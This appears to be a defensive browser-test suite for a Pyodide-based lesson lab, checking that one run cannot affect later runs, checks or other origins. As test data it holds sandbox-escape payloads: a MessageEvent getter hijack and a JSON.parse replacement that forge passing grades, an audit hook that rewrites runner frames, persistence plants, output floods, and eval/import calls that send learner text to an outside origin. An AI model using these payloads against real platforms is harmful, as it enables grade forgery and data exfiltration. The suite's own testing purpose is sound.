"""What a lab run leaves behind reaches nothing after it: no later run, no Check, no other origin, not the page.

Every attack here is code that arrives in a shared link and runs one click on Run away. Each worked against a lab
whose one Python served every run and Check of the page (a hook planted in JavaScript or in Python answered for
what came later); now every request has a Python of its own and the page enforces what a worker may send. The
production build, with production headers; the network tests also on a plain static server that sends no headers.
"""

from __future__ import annotations

import re
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from places import FIXTURE
from playwright.sync_api import Page, Route, expect

from lessonkit.serve.server import ServerHandle

from .helpers import LESSON_PAGE, Elsewhere, HeaderlessHost, PageErrors
from .test_exercise import Exercise
from .test_lab import BOOT_TIMEOUT, Lab, open_lab

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(FIXTURE / "lab"))
from labkit import _limits  # noqa: E402

CAPS = _limits.for_the_page()
STARTER_SUMMARY = "1 of 5 checks passed."  # the seed lesson's exercise, its starter unchanged
EXERCISE_STATE = """() => Object.entries(localStorage)
  .filter(([key]) => key.includes(":write-scaled-softmax:") && !key.endsWith(":code"))
  .map(([, value]) => JSON.parse(value))"""

# ---- the attacks ------------------------------------------------------------------------------------------------

# A getter for every MessageEvent's `data`: the worker's next message from the page calls it with `this` = the
# event, whose target is the worker's end of the lab's channel. Through it: a passing report for any Check, forged
# output for any run, or a flood.
MESSAGE_GETTER = """
import js, json
from pyodide.ffi import create_proxy
proto = js.MessageEvent.prototype
data_of = js.Object.getOwnPropertyDescriptor(proto, "data").get
def getter(this, data_of=data_of, js=js, json=json, MODE=MODE):
    data = data_of.call(this)
    try:
        send = lambda message: this.target.postMessage(js.JSON.parse(json.dumps(message)))
        if data.type == "check":
            checks = [{"name": c.name, "secret": c.secret, "status": "passed", "message": "", "traceback": ""}
                      for c in data.checks]
            send({"type": "report", "id": data.id, "ms": 1, "ok": True, "passed": len(checks), "total": len(checks),
                  "error": None, "checks": checks, "output": "", "truncated": False})
        elif data.type == "run" and MODE == "flood":
            for _ in range(20_000):
                send({"type": "stdout", "id": data.id, "text": "x" * 2_000})
        elif data.type == "run":
            send({"type": "stdout", "id": data.id, "text": "FORGED\\n"})
    except Exception:
        pass
    return data
spec = js.JSON.parse('{"configurable": true}')
spec.get = create_proxy(getter, capture_this=True)
js.Object.defineProperty(proto, "data", spec)
print("installed")
"""

# The worker reads labkit's answer with JSON.parse: replaced, it makes every later answer a pass.
JSON_PARSE = """
import js, json
from pyodide.ffi import create_proxy
real = js.JSON.parse
def parse(text, *rest, real=real, json=json):
    value = json.loads(str(text))
    if isinstance(value, dict) and "passed" in value and "checks" in value:
        for check in value["checks"]:
            check.update(status="passed", message="", traceback="")
        value.update(ok=True, passed=len(value["checks"]), error=None)
    elif isinstance(value, dict) and "stopped" in value:
        value.update(ok=True, error=None)
    return real(json.dumps(value))
js.JSON.parse = create_proxy(parse)
print("replaced")
"""

# Pure Python: an audit hook cannot be removed. When the check runner puts its tracer back after a check's code
# raised, the hook reaches the runner's frame and clears what it caught: every check passes, secret ones too.
AUDIT_HOOK = """
import sys
def hook(event, args, sys=sys):
    if event != "sys.settrace":
        return
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "guarded" and frame.f_locals.get("namespace", 0) is None:
            frame.f_locals["caught"] = None
        frame = frame.f_back
sys.addaudithook(hook)
print("hooked")
"""

VERDICT_ATTACKS = {"message getter": MESSAGE_GETTER.replace("MODE=MODE", "MODE='forge'"), "JSON.parse": JSON_PARSE,
                   "audit hook": AUDIT_HOOK}
# The worker's lockdown refuses the first two before they are in place: MessageEvent is gone from the worker's global,
# and JSON.parse is metered and read-only (worker/sandbox.js, meter-text.js). Each request's own Python is the
# defence either way.
LOCKED_OUT = ("AttributeError: MessageEvent", "TypeError: Cannot assign to read only property 'parse'")


def attack_in_place_or_locked_out(lab: Lab) -> None:
    text = lab.output_text()
    assert text in ("installed\n", "replaced\n", "hooked\n") or any(refused in text for refused in LOCKED_OUT), text


@pytest.mark.parametrize("attack", list(VERDICT_ATTACKS))
def test_a_lab_run_cannot_decide_a_later_check(attack: str, new_page: Callable[..., Page],
                                               server: ServerHandle) -> None:
    lab = open_lab(new_page, server)
    lab.run(VERDICT_ATTACKS[attack])
    attack_in_place_or_locked_out(lab)
    ex = Exercise(lab.page)
    ex.ready()
    # The unchanged starter, checked after the attack: the checks' own verdict, and nothing stored as a pass.
    assert ex.check() == STARTER_SUMMARY
    assert ex.check() == STARTER_SUMMARY  # and again, for any later Check
    assert [state["passed"] for state in lab.page.evaluate(EXERCISE_STATE)] == [False]


@pytest.mark.parametrize("attack", ["message getter", "JSON.parse"])
def test_a_lab_run_cannot_speak_for_later_runs(attack: str, kept_lab: Lab) -> None:
    lab = kept_lab
    lab.run(VERDICT_ATTACKS[attack])
    attack_in_place_or_locked_out(lab)
    lab.run("print(6 * 7)")
    assert lab.output_text() == "42\n"
    lab.run("print('before')\n1 / 0\n")
    expect(lab.status).to_have_text("Error on line 2: ZeroDivisionError: division by zero")
    assert lab.output_text().startswith("before\nTraceback (most recent call last):\n")


# What one run leaves in Python that labkit cannot put back, and what the next run shows in a fresh Python.
LEFT_BEHIND = {
    "codec": ("import codecs\ncodecs.register(lambda name, c=codecs: c.lookup('rot13') if name == 'planted' else None)",
              "import codecs\ntry:\n    codecs.lookup('planted')\n    print('planted codec')\n"
              "except LookupError:\n    print('no such codec')", "no such codec\n"),
    "copyreg": ("import copyreg\ncopyreg.pickle(complex, lambda z: (str, ('planted',)))",
                "import pickle\nprint(pickle.loads(pickle.dumps(1j)))", "1j\n"),
    "asyncgen hooks": ("import sys\nsys.set_asyncgen_hooks(firstiter=print)",
                       "import sys\nprint(sys.get_asyncgen_hooks().firstiter)", "None\n"),
    "SIGALRM": ("import signal\nsignal.signal(signal.SIGALRM, print)",
                "import signal\nprint(signal.getsignal(signal.SIGALRM))", "0\n"),
    "site-packages": ("import os, labkit\nfolder = os.path.dirname(os.path.dirname(labkit.__file__))\n"
                      "open(os.path.join(folder, 'planted.py'), 'w').write('print(\"planted module\")')",
                      "try:\n    import planted\nexcept ModuleNotFoundError:\n    print('no planted module')",
                      "no planted module\n"),
    "hook on cleared globals": ("import sys\ndef hook(event, args):\n    sys.stdout\nsys.addaudithook(hook)",
                                "print(6 * 7)", "42\n"),
    "audit hook": ("import sys\nsys.addaudithook(lambda event, args, p=print: p('hooked') if event == 'lab.probe' else None)",
                   "import sys\nsys.audit('lab.probe')\nprint('probed')", "probed\n"),
}


@pytest.mark.parametrize("case", list(LEFT_BEHIND))
def test_nothing_a_run_leaves_in_python_reaches_the_next(case: str, kept_lab: Lab) -> None:
    plant, probe, fresh = LEFT_BEHIND[case]
    lab = kept_lab
    lab.run(probe)
    assert lab.output_text() == fresh
    lab.run(plant)
    expect(lab.status).to_have_text(re.compile(r"^Run finished in \d+ ms$"))
    lab.run(probe)
    assert lab.output_text() == fresh
    expect(lab.status).to_have_text(re.compile(r"^Run finished in \d+ ms$"))


# ---- what the page takes from a worker ---------------------------------------------------------------------------

FLOODS = {
    # Output below Python's own streams (C level), which labkit's caps never see: 20,000 lines of 2,000 characters.
    "C-level writes": 'import os\nline = ("x" * 1_999 + "\\n").encode()\nfor _ in range(20):\n    os.write(1, line * 1_000)\n',
    # The channel reached through the message getter, flooded on the next run's message.
    "message getter": MESSAGE_GETTER.replace("MODE=MODE", "MODE='flood'"),
}


@pytest.mark.parametrize("flood", list(FLOODS))
def test_a_flood_of_output_stays_within_the_caps_and_the_tab_responds(flood: str, new_page: Callable[..., Page],
                                                                       server: ServerHandle) -> None:
    lab = open_lab(new_page, server)
    lab.run(FLOODS[flood], timeout=BOOT_TIMEOUT / 1000)
    lab.run("print('next')", timeout=BOOT_TIMEOUT / 1000)
    for panel in (lab.previous, lab.current):
        assert len(lab.output_text(panel)) <= CAPS["chars"] + 200
    if flood == "C-level writes":
        text = lab.output_text(lab.previous)
        assert text.startswith("x" * 1_999 + "\n") and text.count("\n") <= CAPS["lines"] + 3
        expect(lab.previous).to_contain_text("The run sent more output than the lab shows, so it was ended.")
    assert lab.output_text() == "next\n"
    # The page still answers clicks (liveness, not speed: tests/bench.py measures long tasks).
    radio = lab.page.get_by_role("radio").first
    radio.check(timeout=5000)
    expect(radio).to_be_checked()


def test_a_flood_ends_its_run_with_the_limit_said(kept_lab: Lab) -> None:
    lab = kept_lab
    lab.run(FLOODS["C-level writes"], timeout=BOOT_TIMEOUT / 1000)
    expect(lab.status).to_contain_text("The run sent more output than the lab shows, so it was ended.")
    expect(lab.status).to_contain_text("(output was cut at the limit)")
    lab.wait_ready()
    lab.run("print(6 * 7)")
    assert lab.output_text() == "42\n"


# ---- errors raised by JavaScript ---------------------------------------------------------------------------------

def test_an_error_javascript_raises_shows_only_the_learners_frames(new_page: Callable[..., Page],
                                                                     server: ServerHandle) -> None:
    lab = open_lab(new_page, server)
    lab.run("import js\nx = 1\njs.JSON.parse('{')\n")
    text = lab.output_text()
    frames = [line.strip() for line in text.splitlines() if line.strip().startswith("File ")]
    assert frames == ['File "scaled_softmax.py", line 3, in <module>'], text
    assert text.rstrip().splitlines()[-1].startswith("pyodide.ffi.JsException: SyntaxError:")
    expect(lab.status).to_have_text(re.compile(r"^Error on line 3: JsException: SyntaxError: "))
    ex = Exercise(lab.page)
    ex.ready()
    ex.check("import js\n\n\ndef scaled_softmax(raw, head_dim):\n    return js.JSON.parse('{')\n")
    first = ex.results()[0]
    assert first.startswith("✗ gives the widget's row for head_dim 4 (the Lab's own numbers) did not pass: your code "
                            "raised JsException: SyntaxError:"), first
    frames = re.findall(r'File "([^"]*)", line (\d+), in (\S+)', first)
    assert [(line, where) for _, line, where in frames] == [("5", "scaled_softmax")], first
    for ours in ("_clean.py", "_run.py", "_check.py", "<check>", "labkit"):
        assert ours not in first, first


# ---- other origins -----------------------------------------------------------------------------------------------

REACH_ELSEWHERE = """
import js
from pyodide.code import run_js
data = "what the learner typed"
ways = {
    "eval": lambda: js.eval("import('ORIGIN/probe.js?via=eval&x=' + encodeURIComponent(" + repr(data) + "))"),
    "run_js": lambda: run_js("import('ORIGIN/probe.js?via=run_js')"),
    "Function": lambda: js.Function("return import('ORIGIN/probe.js?via=Function')")(),
}
for how, go in ways.items():
    try:
        go()
        print(how, "ran")
    except Exception as exc:
        print(how, "refused:", exc.name if type(exc).__name__ == "JsException" else type(exc).__name__)
"""


@pytest.mark.parametrize("host", ["no headers", "production headers"])
def test_learner_code_reaches_no_other_origin(host: str, new_page: Callable[..., Page], headerless: HeaderlessHost,
                                              server: ServerHandle, elsewhere: Elsewhere,
                                              page_errors: PageErrors) -> None:
    page_errors.expect("favicon")
    page = new_page(headerless.url if host == "no headers" else server.url)
    workers: list[str] = []
    page.on("worker", lambda worker: workers.append(worker.url))
    page.goto(LESSON_PAGE)
    lab = Lab(page)
    lab.wait_ready()
    lab.run(REACH_ELSEWHERE.replace("ORIGIN", elsewhere.origin))
    # The page's own Content-Security-Policy (its <meta> tag: a blob: worker inherits it) refuses JavaScript source.
    assert lab.output_text().splitlines() == ["eval refused: EvalError", "run_js refused: EvalError",
                                              "Function refused: EvalError"]
    page.wait_for_timeout(1000)  # for any request under way to arrive
    assert elsewhere.log == []
    # Each Python ran from a blob: URL of the script the page fetched with the build's integrity hash.
    assert workers and all(url.startswith("blob:") for url in workers), workers


# ---- the worker's own script -------------------------------------------------------------------------------------

SRI_REFUSED = "Failed to find a valid digest in the 'integrity' attribute"
# A script in place of the build's worker: it would run with the lab's channel and the page's trust in it.
SWAPPED_WORKER = "self.postMessage('swapped'); globalThis.__swapped = true;\n"


def test_a_swapped_worker_script_never_runs(new_page: Callable[..., Page], server: ServerHandle,
                                            page_errors: PageErrors) -> None:
    page_errors.expect(SRI_REFUSED).expect("lab-worker.js")
    page = new_page(server.url)
    workers: list[str] = []
    page.on("worker", lambda worker: workers.append(worker.url))
    swapped: list[str] = []

    def swap(route: Route) -> None:
        swapped.append(route.request.url)
        route.fulfill(status=200, body=SWAPPED_WORKER, headers={"content-type": "text/javascript"})

    page.route(re.compile(r"/js/lab-worker\.js$"), swap)
    page.goto(LESSON_PAGE)
    lab = Lab(page)
    expect(lab.status).to_contain_text("Could not load Python: the lab's worker could not load, or is not the file "
                                       "the build wrote", timeout=BOOT_TIMEOUT)
    assert swapped and workers == []  # fetched, refused, never started
    page.unroute(re.compile(r"/js/lab-worker\.js$"))
    lab.retry_button.click()
    lab.wait_ready()
    lab.run("print(6 * 7)")
    assert lab.output_text() == "42\n"
